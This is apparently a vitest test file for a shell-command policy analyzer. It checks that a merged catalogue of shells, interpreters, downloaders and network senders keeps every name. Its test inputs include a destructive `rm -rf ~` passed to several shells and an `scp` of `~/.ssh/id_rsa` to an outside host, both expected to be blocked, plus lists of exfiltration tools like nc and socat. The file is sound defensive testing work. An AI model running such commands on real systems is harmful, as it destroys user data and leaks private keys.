// One list of program kinds (src/catalogue/kinds.ts) replaced several copies that disagreed. Every
// name any old copy had is still known by the module that had it: dropping one could loosen a rule.
import { describe, expect, it } from 'vitest';
import {
  interpreterKind,
  INTERPRETERS,
  NETWORK_SENDERS,
  POSIX_SHELLS,
  RAW_SENDERS,
  SHELLS as ALL_SHELLS,
} from '../../src/catalogue/kinds.js';
import { SHELLS as ANALYSED_SHELLS } from '../../src/analyze/shell/shells.js';
import { interpreterOf } from '../../src/analyze/shell/interpreters.js';
import { isCodeRunner, isDecoder, isDownloader, isShell } from '../../src/rules/shell/programs.js';
import { clientOf } from '../../src/rules/shell/sql-meta.js';
import { isShellShebang } from '../../src/adapters/scan/shell-script.js';
import { extractDockerfile } from '../../src/adapters/scan/dockerfile.js';
import { isPosixShell } from '../../src/adapters/scan/github-actions.js';
import type { SimpleCommand, Word } from '../../src/core/ir.js';
import { defaultAnalyzer } from '../../src/engine/default-engine.js';
import { applyPolicy } from '../../src/policy/apply.js';
import { SAFE_DEFAULTS } from '../../src/policy/policies.js';
import { ctx } from '../rules/shell/helpers.js';

const decide = async (script: string) =>
  (await applyPolicy(await defaultAnalyzer.analyze({ kind: 'shell', script }, ctx), SAFE_DEFAULTS, undefined, { ctx })).decision;

const word = (value: string): Word => ({ value, static: true, raw: value });
const command = (line: string): SimpleCommand => {
  const [name, ...args] = line.split(' ');
  return { name: word(name!), args: args.map(word), redirects: [], assignments: [] } as unknown as SimpleCommand;
};

describe('program kinds: one list, no name dropped', () => {
  it('analyze/shell/shells.ts: the shells whose -c script and stdin are shell text', () => {
    for (const n of [
      'bash',
      'sh',
      'zsh',
      'dash',
      'ksh',
      'mksh',
      'ash',
      'fish',
      'rbash',
      'yash',
      'posh',
      'csh',
      'tcsh',
      'oksh',
      'loksh',
      'pdksh',
    ])
      expect(ANALYSED_SHELLS.has(n), n).toBe(true);
    // From the rules' copy: shells that take -c like sh.
    for (const n of ['elvish', 'nu', 'xonsh']) expect(ANALYSED_SHELLS.has(n), n).toBe(true);
    // PowerShell stays with the interpreters (its code is PowerShell, not sh).
    expect(ANALYSED_SHELLS.has('pwsh')).toBe(false);
    expect(interpreterOf('pwsh')?.language).toBe('powershell');
  });

  it('a -c script of a shell from the other copy is judged as a script', async () => {
    for (const n of ['nu', 'elvish', 'xonsh', 'posh']) {
      expect(await decide(`${n} -c 'rm -rf ~'`), n).toBe('block');
      expect(await decide(`${n} -c 'ls'`), n).toBe('allow');
    }
  });

  it('rules/shell/programs.ts: shells, and every name of both copies', () => {
    for (const n of [
      'sh',
      'bash',
      'zsh',
      'dash',
      'ksh',
      'mksh',
      'pdksh',
      'ash',
      'yash',
      'fish',
      'tcsh',
      'csh',
      'rbash',
      'pwsh',
      'powershell',
      'elvish',
      'nu',
      'xonsh',
    ])
      expect(isShell(n), n).toBe(true);
    for (const n of ['posh', 'oksh', 'loksh']) expect(isShell(n), n).toBe(true);
  });

  it('rules/shell/programs.ts: code runners (the old INTERPRETER pattern, and the analysis names)', () => {
    const old = [
      'python',
      'python3',
      'python3.12',
      'pypy3',
      'perl',
      'perl5.36',
      'ruby',
      'ruby3.2',
      'node',
      'nodejs',
      'bun',
      'deno',
      'php',
      'php8.2',
      'lua',
      'lua5.4',
      'luajit',
      'Rscript',
      'tclsh',
      'tclsh8.6',
      'wish',
      'osascript',
      'jshell',
      'groovy',
      'julia',
      'iex',
      'Invoke-Expression',
    ];
    for (const n of old) expect(isCodeRunner(n), n).toBe(true);
    for (const n of ['ipython3', 'micropython', 'tsx', 'ts-node', 'esno', 'babel-node', 'jruby', 'truffleruby', 'irb', 'R', 'julia-1.10'])
      expect(isCodeRunner(n), n).toBe(true);
    for (const n of ['source', '.', 'eval', 'at', 'batch']) expect(isCodeRunner(n), n).toBe(true);
    for (const n of ['ls', 'git', 'pythonista', 'node-gyp', 'rubocop']) expect(isCodeRunner(n), n).toBe(false);
  });

  it('analyze/shell/interpreters.ts: the interpreters whose code is read, by language', () => {
    const expected: Record<string, string> = {
      python3: 'python',
      'python3.11': 'python',
      pypy: 'python',
      ipython3: 'python',
      micropython: 'python',
      node: 'node',
      tsx: 'node',
      'ts-node-esm': 'node',
      bun: 'node',
      deno: 'node',
      perl: 'perl',
      perl5: 'perl',
      ruby: 'ruby',
      jruby: 'ruby',
      irb: 'ruby',
      php: 'php',
      'php8.3': 'php',
      Rscript: 'r',
      R: 'r',
      julia: 'julia',
      'julia-1.10': 'julia',
      lua: 'lua',
      luajit: 'lua',
      pwsh: 'powershell',
      'powershell.exe': 'powershell',
      osascript: 'applescript',
      groovy: 'groovy',
      jshell: 'java',
      tclsh: 'tcl',
      wish: 'tcl',
    };
    for (const [n, language] of Object.entries(expected)) expect(interpreterOf(n)?.language, n).toBe(language);
    // The rules' python copy (python[0-9.]*) and the analysis' one agree now.
    expect(interpreterKind('python2.7')).toBe('python');
    expect(INTERPRETERS.python.names).toContain('pypy');
  });

  it('adapters/scan: the shells whose scripts are judged', () => {
    for (const n of ['sh', 'bash', 'dash', 'ash', 'ksh', 'zsh', 'mksh', 'posh'])
      expect(isShellShebang(`#!/bin/${n}\necho hi\n`), n).toBe(true);
    expect(isShellShebang('#!/usr/bin/env python3\n')).toBe(false);
    for (const n of ['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'mksh', 'posh']) {
      const e = extractDockerfile('Dockerfile', `FROM alpine\nSHELL ["/bin/${n}", "-c"]\nRUN echo hi\n`);
      expect(e.commands.length, n).toBe(1);
    }
    for (const n of ['bash', 'sh', 'bash -e {0}', '/bin/sh -e {0}', 'zsh {0}']) expect(isPosixShell(n), n).toBe(true);
    for (const n of ['pwsh', 'python', 'cmd']) expect(isPosixShell(n), n).toBe(false);
    expect(POSIX_SHELLS.every((n) => ALL_SHELLS.includes(n))).toBe(true);
  });

  it("rules/shell/sql-meta.ts: each client reads its own commands (mariadb reads mysql's)", () => {
    expect(clientOf('psql')).toBe('psql');
    expect(clientOf('mariadb')).toBe('mysql');
    expect(clientOf('sqlite')).toBe('sqlite3');
    expect(clientOf('sqlcmd')).toBe('sqlcmd');
    expect(clientOf('bq')).toBeUndefined();
    expect(clientOf('toString')).toBeUndefined();
  });

  it('rules/shell/programs.ts: downloaders and decoders', () => {
    for (const n of ['curl', 'wget', 'aria2c', 'gh', 'invoke-webrequest']) expect(isDownloader(command(`${n} x`)), n).toBe(true);
    for (const n of ['gunzip', 'zcat', 'rev', 'unlzma']) expect(isDecoder(command(`${n} x`)), n).toBe(true);
    expect(isDecoder(command('base64 -d x'))).toBe(true);
    expect(isDecoder(command('base64 x'))).toBe(false);
  });

  it('rules/shell/secrets.ts: the network senders and the raw senders', async () => {
    for (const n of ['curl', 'xhs', 'rsync', 'lftp', 'sendmail', 'croc', 'wormhole']) expect(NETWORK_SENDERS, n).toContain(n);
    for (const n of ['nc', 'socat', 'openssl', 'wget2']) expect(RAW_SENDERS, n).toContain(n);
    expect(await decide('scp ~/.ssh/id_rsa me@x.io:')).toBe('block');
  });
});
